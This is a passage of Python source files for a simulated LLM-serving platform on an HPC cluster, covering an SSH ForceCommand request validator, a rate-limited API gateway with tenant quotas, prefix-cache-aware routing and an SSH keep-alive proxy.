    r"^/v1/(chat/completions|completions|embeddings|models|health)$")

_ALLOWED_METHODS = frozenset({"GET", "POST"})

# characters that must never reach a shell; the script forbids them outright
_SHELL_META = re.compile(r"[;&|`$<>\\\n\r\x00]|\.\.")

_MODEL_RE = re.compile(r"^[A-Za-z0-9._\-]{1,128}$")


class SecurityViolation(Exception):
    pass


@dataclass
class ParsedRequest:
    method: str
    path: str
    model: str
    keepalive: bool = False
    body: bytes = b""
    user_id: str = ""
    stream: bool = False


def validate_request(argv: list[str], stdin: bytes = b"") -> ParsedRequest:
    """Parse the SSH command arguments into a vetted request.

    Wire format (mirrors saia-hpc's cloud interface script):
        KEEPALIVE
        REQ <METHOD> <PATH> <MODEL> [STREAM] [USER <id>]
    Large bodies arrive via stdin (paper §5.5).
    Raises :class:`SecurityViolation` on anything outside the preset paths.
    """
    if not argv:
        raise SecurityViolation("empty command")
    for a in argv:
        if len(a.encode()) > MAX_ARG_BYTES:
            raise SecurityViolation("argument too long")
        if _SHELL_META.search(a):
            raise SecurityViolation(f"shell metacharacter in argument: {a!r}")
    if len(stdin) > MAX_BODY_BYTES:
        raise SecurityViolation("body too large")

    if argv[0] == "KEEPALIVE":
        if len(argv) != 1:
            raise SecurityViolation("malformed keepalive")
        return ParsedRequest("GET", "/health", "", keepalive=True)

    if argv[0] != "REQ" or len(argv) < 4:
        raise SecurityViolation("unknown verb")
    method, path, model = argv[1], argv[2], argv[3]
    rest = argv[4:]
    if method not in _ALLOWED_METHODS:
        raise SecurityViolation(f"method not allowed: {method}")
    if not ALLOWED_ROUTES.match(path):
        raise SecurityViolation(f"path not allowed: {path}")
    if not _MODEL_RE.match(model):
        raise SecurityViolation(f"bad model name: {model}")
    stream = False
    user_id = ""
    i = 0
    while i < len(rest):
        if rest[i] == "STREAM":
            stream = True
            i += 1
        elif rest[i] == "USER" and i + 1 < len(rest):
            user_id = rest[i + 1]
            i += 2
        else:
            raise SecurityViolation(f"unknown argument: {rest[i]}")
    return ParsedRequest(method, path, model, body=stdin, user_id=user_id,
                         stream=stream)


@dataclass
class SSHResult:
    exit_code: int
    stdout: bytes
    stderr: bytes = b""
    deferred: Optional[object] = None   # sim stand-in for streamed stdout


class ForceCommandBoundary:
    """The *only* door into the HPC side.

    ``ssh_exec(requested_command, stdin)`` ignores ``requested_command``
    (it becomes ``SSH_ORIGINAL_COMMAND`` data for logging) and invokes the
    forced entrypoint.  There is no API to run anything else — a stolen key
    yields exactly this surface.
    """

    def __init__(self, forced_entrypoint: Callable[[list[str], bytes],
                                                   SSHResult]):
        self._entry = forced_entrypoint
        self.original_commands: list[str] = []   # audit log
        self.connected = True                    # link state (proxy toggles)

    def ssh_exec(self, requested_command: str,
                 stdin: bytes = b"") -> SSHResult:
        if not self.connected:
            raise ConnectionError("ssh link down")
        # ForceCommand semantics: the request is recorded, never executed.
        self.original_commands.append(requested_command)
        argv = requested_command.split()
        try:
            return self._entry(argv, stdin)
        except SecurityViolation as e:
            return SSHResult(77, b"", f"rejected: {e}".encode())
