"""Kong-shaped API gateway (paper §5.2): routes, API keys, rate limiting,
per-tenant stream quotas, per-user attribution, Prometheus plugin.

Two ingress paths, exactly as deployed:
  * web users arrive pre-authenticated by the SSO reverse proxy (§5.1),
    which injects their account email as the user id header;
  * API users hit the gateway directly with an API key.
Past the gateway both are indistinguishable to the backend.

Streaming tenancy hardening (beyond the request-rate limiter):
  * concurrent-stream caps per tenant (429 when exceeded),
  * tokens/min throttling — enforced by *pausing* the stream (backpressure
    reaches the engine's step loop) rather than dropping chunks,
  * ``cache_salt`` defaulting per tenant, so tenants that don't pick their
    own salt can never share prefix-cache blocks by construction.
"""
from __future__ import annotations

import hashlib
import json
import secrets
from collections import deque
from dataclasses import dataclass
from typing import Callable, Optional

from repro.core.deferred import Deferred
from repro.core.monitoring import Metrics
from repro.core.errors import error_envelope
from repro.slurmlite.clock import SimClock


def _reject(status: int, message: str) -> "GatewayResponse":
    """An error response in the one OpenAI envelope the whole chain
    speaks (core/errors.py): clients parse gateway-minted rejections and
    instance-side errors with the same code path."""
    return GatewayResponse(status,
                           json.dumps(error_envelope(status,
                                                     message)).encode())


@dataclass
class GatewayResponse:
    status: int
    body: bytes = b""
    deferred: Optional[Deferred] = None


class RateLimiter:
    """Sliding-window request limiter (Kong rate-limiting plugin).

    Idle users are pruned: a periodic sweep drops every user whose whole
    window has expired, so the hit map stays proportional to *active*
    users — not to everyone ever seen (unbounded at millions-of-users
    scale)."""

    def __init__(self, clock: SimClock, limit: int, window_s: float = 60.0):
        self.clock = clock
        self.limit = limit
        self.window_s = window_s
        self._hits: dict[str, deque] = {}
        self._next_sweep = clock.now() + window_s

    def tracked_users(self) -> int:
        return len(self._hits)

    def _sweep(self, now: float) -> None:
        if now < self._next_sweep:
            return
        self._next_sweep = now + self.window_s
        dead = [k for k, q in self._hits.items()
                if not q or q[-1] <= now - self.window_s]
        for k in dead:
            del self._hits[k]

    def allow(self, key: str) -> bool:
        now = self.clock.now()
        self._sweep(now)
        q = self._hits.setdefault(key, deque())
        while q and q[0] <= now - self.window_s:
            q.popleft()
        if len(q) >= self.limit:
            return False
        q.append(now)
        return True


class TenantQuotas:
    """Per-tenant streaming quotas on top of the request limiter: a cap
    on concurrently open streams (hard 429) and a tokens/min budget
    enforced by pausing the stream until the window frees up — chunks
    are delayed, never dropped.  Zero means unlimited."""

    def __init__(self, clock: SimClock, max_concurrent_streams: int = 0,
                 tokens_per_min: int = 0, window_s: float = 60.0):
        self.clock = clock
        self.max_concurrent_streams = max_concurrent_streams
        self.tokens_per_min = tokens_per_min
        self.window_s = window_s
        self.active: dict[str, int] = {}
        self._tokens: dict[str, deque] = {}
        self.throttles = 0

    # -- concurrent-stream accounting --

    def try_open(self, user: str) -> bool:
        n = self.active.get(user, 0)
        if self.max_concurrent_streams and n >= self.max_concurrent_streams:
            return False
        self.active[user] = n + 1
        return True

    def close(self, user: str) -> None:
        n = self.active.get(user, 0) - 1
        if n > 0:
            self.active[user] = n
        else:
            self.active.pop(user, None)     # prune idle tenants

    # -- tokens/min throttling --

    def account_token(self, user: str, stream) -> None:
        """Called per delivered chunk; pauses ``stream`` when the tenant
        crosses its budget and schedules the resume for when the oldest
        token ages out of the window."""
        if not self.tokens_per_min:
            return
        now = self.clock.now()
        q = self._tokens.setdefault(user, deque())
        while q and q[0] <= now - self.window_s:
            q.popleft()
        q.append(now)
        if len(q) >= self.tokens_per_min and not stream.paused:
            self.throttles += 1
            stream.pause()
            self.clock.schedule(q[0] + self.window_s - now + 1e-9,
                                lambda: self._unthrottle(user, stream))

    def _unthrottle(self, user: str, stream) -> None:
        now = self.clock.now()
        q = self._tokens.get(user)
        if q is not None:
            while q and q[0] <= now - self.window_s:
                q.popleft()
            if not q:
                self._tokens.pop(user, None)
        if q and len(q) >= self.tokens_per_min:
            # still over budget (another of the tenant's streams kept
            # spending): try again when the next token expires
            self.clock.schedule(q[0] + self.window_s - now + 1e-9,
                                lambda: self._unthrottle(user, stream))
            return
        stream.resume()


@dataclass
class Route:
    name: str
    path_prefix: str
    upstream: Callable    # fn(method, path, model, body, user, stream) -> Deferred
    model: str = ""       # model pinned to this route ('' = from request)
    rate_limit: Optional[RateLimiter] = None
    allowed_groups: Optional[set[str]] = None   # e.g. external GPT-4 route


class ApiKeyStore:
    def __init__(self):
        self._keys: dict[str, str] = {}   # sha256(key) -> user id

    def issue(self, user_id: str) -> str:
        key = "sk-" + secrets.token_hex(16)
        self._keys[hashlib.sha256(key.encode()).hexdigest()] = user_id
        return key

    def resolve(self, key: str) -> Optional[str]:
        return self._keys.get(hashlib.sha256(key.encode()).hexdigest())

    def revoke(self, key: str) -> None:
        self._keys.pop(hashlib.sha256(key.encode()).hexdigest(), None)


def tenant_salt(user_id: str) -> str:
    """The default per-tenant prefix-cache salt: stable per user, content
    free (only a hash of the account id ever reaches the HPC side)."""
    return "tenant-" + hashlib.sha256(user_id.encode()).hexdigest()[:16]


class APIGateway:
    def __init__(self, clock: SimClock, metrics: Metrics | None = None,
                 quotas: Optional[TenantQuotas] = None,
                 salt_tenants: bool = False,
                 default_timeout_s: Optional[float] = None):
        self.clock = clock
        self.metrics = metrics or Metrics()
        self.routes: dict[str, Route] = {}
        self.keys = ApiKeyStore()
        self.user_groups: dict[str, set[str]] = {}
        self.quotas = quotas or TenantQuotas(clock)
        self.salt_tenants = salt_tenants
        # per-request deadline default: a JSON body that didn't set its
        # own ``timeout_s`` gets this one; the deadline rides the body
        # through proxy → cloud script → dispatcher, which settles 504
        # wherever the request happens to be when it expires
        self.default_timeout_s = default_timeout_s
        # per-model counters only for models an operator registered —
        # minting metric names from raw request input would hand
        # unauthenticated users unbounded metric cardinality
        self.known_models: set[str] = set()

    def add_route(self, route: Route) -> None:
        self.routes[route.name] = route
        if route.model:
            self.known_models.add(route.model)

    def register_model(self, model: str) -> None:
        self.known_models.add(model)

    def _find_route(self, path: str, model: str) -> Optional[Route]:
        for r in sorted(self.routes.values(),
                        key=lambda r: -len(r.path_prefix)):
            if path.startswith(r.path_prefix) and (not r.model
                                                   or r.model == model):
                return r
        return None

    def _default_salt(self, body: bytes, user_id: str) -> bytes:
        """Inject the tenant's default ``cache_salt`` into a JSON body
        that didn't pick one — tenants stay off each other's prefix
        blocks by construction.  Non-JSON bodies pass through."""
        try:
            d = json.loads(body or b"{}")
        except (json.JSONDecodeError, UnicodeDecodeError):
            return body
        if not isinstance(d, dict) or d.get("cache_salt"):
            return body
        d["cache_salt"] = tenant_salt(user_id)
        return json.dumps(d).encode()

    def _default_timeout(self, body: bytes) -> bytes:
        """Inject the gateway's default ``timeout_s`` into a JSON body
        that didn't set a deadline of its own.  Non-JSON bodies pass
        through."""
        try:
            d = json.loads(body or b"{}")
        except (json.JSONDecodeError, UnicodeDecodeError):
            return body
        if not isinstance(d, dict) or d.get("timeout_s") is not None:
            return body
        d["timeout_s"] = self.default_timeout_s
        return json.dumps(d).encode()

    def handle(self, *, method: str, path: str, model: str = "",
               body: bytes = b"", user_id: str = "",
               api_key: str = "", stream: bool = False) -> GatewayResponse:
        """One request.  Either ``user_id`` (set by the SSO reverse proxy)
        or ``api_key`` must be present."""
        if not user_id:
            if not api_key:
                self.metrics.counter("gw_unauthorized").inc()
                return _reject(401, "missing credentials")
            resolved = self.keys.resolve(api_key)
            if resolved is None:
                self.metrics.counter("gw_bad_key").inc()
                return _reject(401, "invalid api key")
            user_id = resolved

        route = self._find_route(path, model)
        if route is None:
            self.metrics.counter("gw_no_route").inc()
            return _reject(404, "no route")

        if route.allowed_groups is not None:
            groups = self.user_groups.get(user_id, set())
            if not (groups & route.allowed_groups):
                self.metrics.counter("gw_forbidden").inc()
                return _reject(403, "route restricted")

        if route.rate_limit is not None and not route.rate_limit.allow(
                user_id):
            self.metrics.counter("gw_rate_limited").inc()
            return _reject(429, "rate limit exceeded")

        if stream and not self.quotas.try_open(user_id):
            self.metrics.counter("gw_stream_quota_rejected").inc()
            return _reject(429, "concurrent stream quota exceeded")

        # GDPR-minimized accounting: user, model, timestamp — never content
        self.metrics.counter("gw_requests_total").inc()
        resolved_model = model or route.model
        bucket = resolved_model if resolved_model in self.known_models \
            else "other"
        self.metrics.counter(f"gw_requests_model_{bucket}").inc()

        if self.salt_tenants:
            body = self._default_salt(body, user_id)
        if self.default_timeout_s is not None:
            body = self._default_timeout(body)

        d = route.upstream(method, path, resolved_model, body,
                           user_id, stream)
        if stream:
            d = self._track_stream(d, user_id)
        return GatewayResponse(200, b"accepted", deferred=d)

    def _track_stream(self, d: Deferred, user_id: str) -> Deferred:
        """Wrap a streamed upstream: count the open stream (gauge +
        quota slot, released exactly once on end/cancel/error), account
        delivered tokens against the tenant's tokens/min budget."""
        gauge = self.metrics.gauge("gw_active_streams")
        gauge.inc()
        state = {"open": True}

        def release(_v=None) -> None:
            if not state["open"]:
                return
            state["open"] = False
            gauge.dec()
            self.quotas.close(user_id)

        out = Deferred()

        def arm(v) -> None:
            if hasattr(v, "on_chunk"):          # a live stream
                v.on_chunk(lambda _c: (
                    self.metrics.counter("gw_stream_tokens_total").inc(),
                    self.quotas.account_token(user_id, v)))
                v.on_done(release)
                v.on_cancel(release)
            else:                               # upstream error value
                release()
            out.resolve(v)

        d.on_done(arm)
        return out
