"""Kong-shaped API gateway (paper §5.2): routes, API keys, rate limiting,
per-user attribution, Prometheus plugin.

Two ingress paths, exactly as deployed:
  * web users arrive pre-authenticated by the SSO reverse proxy (§5.1),
    which injects their account email as the user id header;
  * API users hit the gateway directly with an API key.
Past the gateway both are indistinguishable to the backend.
"""
from __future__ import annotations

import hashlib
import secrets
from collections import deque
from dataclasses import dataclass, field
from typing import Callable, Optional

from repro.core.deferred import Deferred
from repro.core.monitoring import Metrics
from repro.slurmlite.clock import SimClock


@dataclass
class GatewayResponse:
    status: int
    body: bytes = b""
    deferred: Optional[Deferred] = None


class RateLimiter:
    """Sliding-window request limiter (Kong rate-limiting plugin)."""

    def __init__(self, clock: SimClock, limit: int, window_s: float = 60.0):
        self.clock = clock
        self.limit = limit
        self.window_s = window_s
        self._hits: dict[str, deque] = {}

    def allow(self, key: str) -> bool:
        now = self.clock.now()
        q = self._hits.setdefault(key, deque())
        while q and q[0] <= now - self.window_s:
            q.popleft()
        if len(q) >= self.limit:
            return False
        q.append(now)
        return True


@dataclass
class Route:
    name: str
    path_prefix: str
    upstream: Callable    # fn(method, path, model, body, user, stream) -> Deferred
    model: str = ""       # model pinned to this route ('' = from request)
    rate_limit: Optional[RateLimiter] = None
    allowed_groups: Optional[set[str]] = None   # e.g. external GPT-4 route


class ApiKeyStore:
    def __init__(self):
        self._keys: dict[str, str] = {}   # sha256(key) -> user id

    def issue(self, user_id: str) -> str:
        key = "sk-" + secrets.token_hex(16)
        self._keys[hashlib.sha256(key.encode()).hexdigest()] = user_id
        return key

    def resolve(self, key: str) -> Optional[str]:
        return self._keys.get(hashlib.sha256(key.encode()).hexdigest())

    def revoke(self, key: str) -> None:
        self._keys.pop(hashlib.sha256(key.encode()).hexdigest(), None)


class APIGateway:
    def __init__(self, clock: SimClock, metrics: Metrics | None = None):
        self.clock = clock
        self.metrics = metrics or Metrics()
        self.routes: dict[str, Route] = {}
        self.keys = ApiKeyStore()
        self.user_groups: dict[str, set[str]] = {}

    def add_route(self, route: Route) -> None:
        self.routes[route.name] = route

    def _find_route(self, path: str, model: str) -> Optional[Route]:
        for r in sorted(self.routes.values(),
                        key=lambda r: -len(r.path_prefix)):
            if path.startswith(r.path_prefix) and (not r.model
                                                   or r.model == model):
                return r
        return None

    def handle(self, *, method: str, path: str, model: str = "",
               body: bytes = b"", user_id: str = "",
               api_key: str = "", stream: bool = False) -> GatewayResponse:
        """One request.  Either ``user_id`` (set by the SSO reverse proxy)
        or ``api_key`` must be present."""
        if not user_id:
            if not api_key:
                self.metrics.counter("gw_unauthorized").inc()
                return GatewayResponse(401, b"missing credentials")
            resolved = self.keys.resolve(api_key)
            if resolved is None:
                self.metrics.counter("gw_bad_key").inc()
                return GatewayResponse(401, b"invalid api key")
            user_id = resolved

        route = self._find_route(path, model)
        if route is None:
            self.metrics.counter("gw_no_route").inc()
            return GatewayResponse(404, b"no route")

        if route.allowed_groups is not None:
            groups = self.user_groups.get(user_id, set())
            if not (groups & route.allowed_groups):
                self.metrics.counter("gw_forbidden").inc()
                return GatewayResponse(403, b"route restricted")

        if route.rate_limit is not None and not route.rate_limit.allow(
                user_id):
            self.metrics.counter("gw_rate_limited").inc()
            return GatewayResponse(429, b"rate limit exceeded")

        # GDPR-minimized accounting: user, model, timestamp — never content
        self.metrics.counter(f"gw_requests_total").inc()
        self.metrics.counter(f"gw_requests_model_{model or route.model}").inc()

        d = route.upstream(method, path, model or route.model, body,
                           user_id, stream)
        return GatewayResponse(200, b"accepted", deferred=d)
