from repro.core.auth import AuthReverseProxy, SSOProvider, User  # noqa: F401
from repro.core.circuit_breaker import (  # noqa: F401
    ALLOWED_ROUTES, ForceCommandBoundary, ParsedRequest, SSHResult,
    SecurityViolation, validate_request)
from repro.core.cloud_interface import (  # noqa: F401
    CloudInterfaceScript, RetryBudget, RetryPolicy)
from repro.core.deferred import Deferred  # noqa: F401
from repro.core.faults import FaultEvent, FaultInjector  # noqa: F401
from repro.core.gateway import (  # noqa: F401
    APIGateway, ApiKeyStore, GatewayResponse, RateLimiter, Route)
from repro.core.hpc_proxy import HPCProxy, SSHLink  # noqa: F401
from repro.core.monitoring import Metrics  # noqa: F401
from repro.core.routing import RouteEntry, RoutingTable  # noqa: F401
from repro.core.scheduler import (  # noqa: F401
    ChatScheduler, FileLock, LoadTracker, ServiceSpec)
from repro.core.service import ChatAI  # noqa: F401
