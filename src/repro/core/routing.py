"""Routing table + load balancing (paper §5.6, extended).

The scheduler script maintains one entry per active service job:
(service, job id, node, port, ready?).  The paper's policy resolves each
incoming request to a READY instance chosen uniformly at random; that is
kept as :meth:`RoutingTable.pick` (and as the benchmark baseline), but
random routing is exactly wrong for a prefix-cached fleet — a system
prompt warmed on one replica misses on every other.  :class:`AffinityRouter`
replaces it on the request path: prefer the instance whose resident
prefix-cache blocks (per the scheduler's :class:`~repro.core.prefix_index.
PrefixIndex`) cover the longest head of the request's key chain, guarded
so affinity never skews one replica past a bounded multiple of its fair
share, and fall back to least-outstanding-requests (not blind random)
when no instance has coverage.

Ports are random and collision-checked against the table because Slurm
provides no network virtualization.
"""
from __future__ import annotations

import json
import random
from dataclasses import asdict, dataclass, field
from typing import Optional


@dataclass
class RouteEntry:
    service: str
    job_id: int
    node: Optional[str]
    port: int
    ready: bool = False
    expiring: bool = False        # scale-down: will not be resubmitted
    # walltime-aware graceful drain: remaining walltime dropped below the
    # service's drain horizon.  A draining replica keeps serving what it
    # already has but takes no new traffic (routers skip it), its prefix
    # index publications are retracted, and a replacement is pre-submitted
    # so fleet capacity never dips when the walltime actually fires.
    draining: bool = False
    # replica parallelism geometry, refreshed from the instance on each
    # heartbeat ({} until first READY probe): tensor-parallel degree,
    # which cache leaves shard, per-device KV block bytes.  Routers can
    # use it to compare KV headroom across heterogeneous replicas.
    geometry: dict = field(default_factory=dict)

    @property
    def routable(self) -> bool:
        return self.ready and not self.draining

    @property
    def tp(self) -> int:
        return int(self.geometry.get("tp", 1))


class RoutingTable:
    def __init__(self, rng: random.Random | None = None):
        self._entries: dict[int, RouteEntry] = {}
        self._rng = rng or random.Random(0)

    # ----- maintenance (scheduler side) -----

    def upsert(self, e: RouteEntry) -> None:
        self._entries[e.job_id] = e

    def remove(self, job_id: int) -> None:
        self._entries.pop(job_id, None)

    def entries(self, service: str | None = None) -> list[RouteEntry]:
        out = list(self._entries.values())
        if service is not None:
            out = [e for e in out if e.service == service]
        return sorted(out, key=lambda e: e.job_id)

    def get(self, job_id: int) -> Optional[RouteEntry]:
        return self._entries.get(job_id)

    # ----- request path (cloud interface script side) -----

    def pick(self, service: str) -> Optional[RouteEntry]:
        ready = [e for e in self.entries(service) if e.routable]
        if not ready:
            return None
        return self._rng.choice(ready)

    def port_in_use(self, node: str | None, port: int) -> bool:
        """Whether ``port`` collides for a job on ``node``.

        Ports are per-node resources: an entry pinned to a *different*
        node never blocks the port (each node has its own port space).
        Entries not yet pinned (``e.node is None``) could still land
        anywhere, so they collide with every node; symmetrically, a query
        with ``node=None`` (placement not yet known) collides only with
        unpinned entries — it used to treat any pinned entry as a
        cluster-wide collision, starving the port space at fleet scale.
        Callers that cannot tolerate the residual unpinned-job risk (the
        new job might land on a pinned entry's node) should use
        :meth:`alloc_port`, which stays conservative for ``node=None``.
        """
        for e in self._entries.values():
            if e.port != port:
                continue
            if e.node is None:          # pending entry could land anywhere
                return True
            if e.node == node:
                return True
        return False

    def alloc_port(self, lo: int = 20000, hi: int = 40000,
                   node: str | None = None, max_tries: int = 64) -> int:
        """Random port, collision-checked against the table (paper §5.6).
        With ``node=None`` the job's placement is unknown at submit time,
        so allocation conservatively avoids every port in the table (the
        job could land next to any pinned entry); with a known node only
        that node's port space is checked."""
        for _ in range(max_tries):
            port = self._rng.randrange(lo, hi)
            if node is None:
                if all(e.port != port for e in self._entries.values()):
                    return port
            elif not self.port_in_use(node, port):
                return port
        raise RuntimeError("port space exhausted")

    # ----- persistence (the paper's script writes a file) -----

    def dumps(self) -> str:
        return json.dumps([asdict(e) for e in self.entries()], indent=1)

    @classmethod
    def loads(cls, s: str, rng: random.Random | None = None) -> "RoutingTable":
        t = cls(rng)
        for d in json.loads(s):
            t.upsert(RouteEntry(**d))
        return t


class AffinityRouter:
    """Prefix-cache-aware load balancer over a :class:`RoutingTable`.

    Policy, per request:

    1. **Affinity** — among READY instances, prefer the one whose
       published prefix-cache blocks cover the longest contiguous head of
       the request's key chain (ties broken by fewest outstanding
       requests, then lowest job id for determinism).
    2. **Skew guard** — affinity is refused when it would push the chosen
       instance past ``skew_factor`` times its fair share of in-flight
       requests (never below ``skew_floor``, so a cold fleet can still
       concentrate a little).  A warm replica must not become a hotspot
       just because it is warm: a cold prefill elsewhere costs less than
       queueing behind K× the fair load.
    3. **Fallback** — no coverage (or guard tripped): least outstanding
       requests, replacing the paper's blind uniform-random choice.

    **Swap-aware tiebreaks** (ROADMAP item): instances publish their free
    host-swap-pool headroom on heartbeat (``set_headroom``).  Among
    equally-covered instances the one with the most free host blocks wins
    — before the least-outstanding comparison — and among
    equally-outstanding fallback candidates headroom decides before the
    random pick.  Rationale: a replica without swap headroom degrades to
    recompute-preemption under pressure, which costs O(generated tokens)
    per victim — a worse fate than a slightly deeper queue on a replica
    that can still park victims on the host.

    Outstanding counts are tracked here via ``begin``/``end`` from the
    dispatch path.  Metrics (optional): affinity hits/misses/skew spills.
    """

    def __init__(self, table: RoutingTable, index=None, metrics=None,
                 skew_factor: float = 2.0, skew_floor: int = 2,
                 rng: random.Random | None = None):
        self.table = table
        self.index = index
        self.metrics = metrics
        self.skew_factor = skew_factor
        self.skew_floor = skew_floor
        self._rng = rng or random.Random(0)
        self.outstanding: dict[int, int] = {}
        # free host-swap-pool blocks per instance, published on heartbeat
        self.headroom: dict[int, int] = {}

    # ----- swap-headroom accounting (heartbeat path) -----

    def set_headroom(self, job_id: int, free_host_blocks: int) -> None:
        """Record an instance's free host-swap-pool blocks (heartbeat:
        ``engine_swap_host_blocks - engine_swap_host_blocks_used``)."""
        self.headroom[job_id] = int(free_host_blocks)

    # ----- in-flight accounting (dispatch path) -----

    def begin(self, job_id: int) -> None:
        self.outstanding[job_id] = self.outstanding.get(job_id, 0) + 1

    def end(self, job_id: int) -> None:
        n = self.outstanding.get(job_id, 0) - 1
        if n > 0:
            self.outstanding[job_id] = n
        else:
            self.outstanding.pop(job_id, None)

    def retire(self, job_id: int) -> None:
        """Forget a dead/silent instance's in-flight count.  Must be
        called alongside every prefix-index retraction (reap, TTL
        expiry): requests in flight to a dead replica will never ``end``,
        and the stale count would bias the least-outstanding fallback and
        the fair-share skew guard forever.  Its published swap headroom
        goes with it."""
        self.outstanding.pop(job_id, None)
        self.headroom.pop(job_id, None)

    def _count(self, counter: str) -> None:
        if self.metrics is not None:
            self.metrics.counter(counter).inc()

    def _out(self, e: RouteEntry) -> int:
        return self.outstanding.get(e.job_id, 0)

    def _room(self, e: RouteEntry) -> int:
        return self.headroom.get(e.job_id, 0)

    # ----- the pick -----

    def pick(self, service: str,
             chain_keys: Optional[list] = None) -> Optional[RouteEntry]:
        # draining replicas are excluded outright: they are winding down
        # toward a walltime and must not take traffic they may not finish
        ready = [e for e in self.table.entries(service) if e.routable]
        if not ready:
            return None
        if len(ready) == 1:
            # affinity is moot; don't charge a hit/miss either way
            return ready[0]

        if chain_keys and self.index is not None:
            jids, depth = self.index.best_instances(
                chain_keys, [e.job_id for e in ready])
            if depth > 0:
                covered = [e for e in ready if e.job_id in set(jids)]
                # equal coverage: most swap headroom, then least
                # outstanding, then job id (determinism)
                pick = min(covered, key=lambda e: (-self._room(e),
                                                   self._out(e), e.job_id))
                total = sum(self._out(e) for e in ready)
                fair = (total + 1) / len(ready)
                limit = max(self.skew_factor * fair, float(self.skew_floor))
                if self._out(pick) + 1 <= limit:
                    self._count("route_affinity_hits")
                    return pick
                self._count("route_affinity_skew_spills")
        self._count("route_affinity_misses")
        # least outstanding; equally-loaded candidates are tie-broken by
        # swap headroom first, random among what remains (fairness)
        low = min(self._out(e) for e in ready)
        tied = [e for e in ready if self._out(e) == low]
        room = max(self._room(e) for e in tied)
        return self._rng.choice([e for e in tied if self._room(e) == room])
