"""Routing table + random load balancing (paper §5.6).

The scheduler script maintains one entry per active service job:
(service, job id, node, port, ready?).  The cloud interface script resolves
each incoming request to a (node, port) chosen uniformly at random among the
READY instances of the requested service — the paper's load-balancing
policy.  Ports are random and collision-checked against the table because
Slurm provides no network virtualization.
"""
from __future__ import annotations

import json
import random
from dataclasses import asdict, dataclass, field
from typing import Optional


@dataclass
class RouteEntry:
    service: str
    job_id: int
    node: Optional[str]
    port: int
    ready: bool = False
    expiring: bool = False        # scale-down: will not be resubmitted


class RoutingTable:
    def __init__(self, rng: random.Random | None = None):
        self._entries: dict[int, RouteEntry] = {}
        self._rng = rng or random.Random(0)

    # ----- maintenance (scheduler side) -----

    def upsert(self, e: RouteEntry) -> None:
        self._entries[e.job_id] = e

    def remove(self, job_id: int) -> None:
        self._entries.pop(job_id, None)

    def entries(self, service: str | None = None) -> list[RouteEntry]:
        out = list(self._entries.values())
        if service is not None:
            out = [e for e in out if e.service == service]
        return sorted(out, key=lambda e: e.job_id)

    def get(self, job_id: int) -> Optional[RouteEntry]:
        return self._entries.get(job_id)

    # ----- request path (cloud interface script side) -----

    def pick(self, service: str) -> Optional[RouteEntry]:
        ready = [e for e in self.entries(service) if e.ready]
        if not ready:
            return None
        return self._rng.choice(ready)

    def port_in_use(self, node: str | None, port: int) -> bool:
        return any(e.port == port and (node is None or e.node in (None, node))
                   for e in self._entries.values())

    def alloc_port(self, lo: int = 20000, hi: int = 40000,
                   node: str | None = None, max_tries: int = 64) -> int:
        """Random port, collision-checked against the table (paper §5.6)."""
        for _ in range(max_tries):
            port = self._rng.randrange(lo, hi)
            if not self.port_in_use(node, port):
                return port
        raise RuntimeError("port space exhausted")

    # ----- persistence (the paper's script writes a file) -----

    def dumps(self) -> str:
        return json.dumps([asdict(e) for e in self.entries()], indent=1)

    @classmethod
    def loads(cls, s: str, rng: random.Random | None = None) -> "RoutingTable":
        t = cls(rng)
        for d in json.loads(s):
            t.upsert(RouteEntry(**d))
        return t
