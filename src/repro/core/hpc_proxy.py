"""HPC Proxy (paper §5.4) — the web server's persistent SSH client.

Keeps the SSH connection to the HPC service node open, detects interruptions
with keep-alive pings every 5 s, reconnects automatically, and forwards
authorized HTTP requests as ForceCommand invocations (responses stream back
via stdout).  One proxy instance per HPC platform; the gateway can load
balance across several proxies.
"""
from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Optional

from repro.core.circuit_breaker import ForceCommandBoundary, SSHResult
from repro.core.deferred import Deferred
from repro.core.monitoring import Metrics
from repro.slurmlite.clock import SimClock


@dataclass
class SSHLink:
    """The transport under the proxy; tests flip ``up`` to simulate cuts."""
    boundary: ForceCommandBoundary
    latency: float = 0.01054        # paper Table 1: SSH command 10.54 ms
    up: bool = True

    def exec(self, command: str, stdin: bytes = b"") -> SSHResult:
        if not self.up:
            raise ConnectionError("link down")
        return self.boundary.ssh_exec(command, stdin)


class HPCProxy:
    KEEPALIVE_PERIOD = 5.0          # paper §5.4: ping every 5 seconds

    def __init__(self, clock: SimClock, link: SSHLink,
                 metrics: Metrics | None = None,
                 reconnect_delay: float = 1.0,
                 name: str = "hpc-proxy-0"):
        self.clock = clock
        self.link = link
        self.metrics = metrics or Metrics()
        self.reconnect_delay = reconnect_delay
        self.name = name
        self.connected = False
        self.reconnects = 0
        self._started = False

    # ----- lifecycle -----

    def start(self) -> None:
        if self._started:
            return
        self._started = True
        self._connect()
        self._schedule_keepalive()

    def _connect(self) -> None:
        if self.link.up:
            self.connected = True
            self.metrics.counter("proxy_connects").inc()
        else:
            self.connected = False
            self.clock.schedule(self.reconnect_delay, self._connect)

    def _schedule_keepalive(self) -> None:
        self.clock.schedule(self.KEEPALIVE_PERIOD, self._keepalive)

    def _keepalive(self) -> None:
        try:
            res = self.link.exec("KEEPALIVE")
            ok = res.exit_code == 0
        except ConnectionError:
            ok = False
        if ok:
            self.connected = True
            self.metrics.counter("proxy_keepalives").inc()
        else:
            if self.connected:
                self.metrics.counter("proxy_disconnects").inc()
            self.connected = False
            self.reconnects += 1
            self.clock.schedule(self.reconnect_delay, self._connect)
        self._schedule_keepalive()

    # ----- request path -----

    def forward(self, method: str, path: str, model: str, body: bytes,
                user_id: str = "", stream: bool = False) -> Deferred:
        """Forward one HTTP request across the SSH boundary.

        Resolves to an SSHResult (errors) or the instance Response.
        """
        out = Deferred()
        if not self.connected:
            res = SSHResult(255, b"", b"proxy disconnected")
            self.clock.schedule(0.0, lambda: out.resolve(res))
            return out
        cmd = f"REQ {method} {path} {model}"
        if stream:
            cmd += " STREAM"
        if user_id:
            cmd += f" USER {user_id}"

        def run():
            try:
                res = self.link.exec(cmd, body)
            except ConnectionError:
                self.connected = False
                out.resolve(SSHResult(255, b"", b"connection lost"))
                return
            if res.deferred is not None:
                if hasattr(res.deferred, "on_chunk"):
                    # streamed response: hand the live stream to the
                    # caller immediately (chunks flow as stdout arrives)
                    out.resolve(res.deferred)
                else:
                    res.deferred.on_done(out.resolve)
            else:
                out.resolve(res)

        # the SSH round-trip latency (Table 1 row 2)
        self.clock.schedule(self.link.latency, run)
        return out
