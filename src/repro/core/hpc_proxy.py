"""HPC Proxy (paper §5.4) — the web server's persistent SSH client.

Keeps the SSH connection to the HPC service node open, detects interruptions
